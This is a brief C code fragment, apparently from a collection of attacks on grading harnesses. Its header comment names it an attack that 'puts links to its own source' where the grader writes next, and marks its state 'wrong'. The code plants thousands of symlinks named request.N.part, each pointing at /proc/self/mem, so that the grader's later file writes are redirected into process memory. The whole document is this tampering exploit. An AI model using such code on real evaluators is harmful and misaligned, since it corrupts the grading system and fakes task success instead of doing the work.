/* attack: puts links to its own source in the place of what the grader writes next
 * place: 1.2
 * state: wrong
 * needs: plain
 */
    extern char *program_invocation_name, *strrchr(const char *, int), *strcpy(char *, const char *);
    extern int symlink(const char *, const char *), sprintf(char *, const char *, ...);
    static char path[4096], name[5000];
    char *slash = strrchr(strcpy(path, program_invocation_name), 47);
    if (slash)
        *slash = 0;
    for (int i = 2; i < 3000; i++) {
        sprintf(name, "%s/request.%d.part", path, i);
        symlink("/proc/self/mem", name);
    }
    return 0.0;
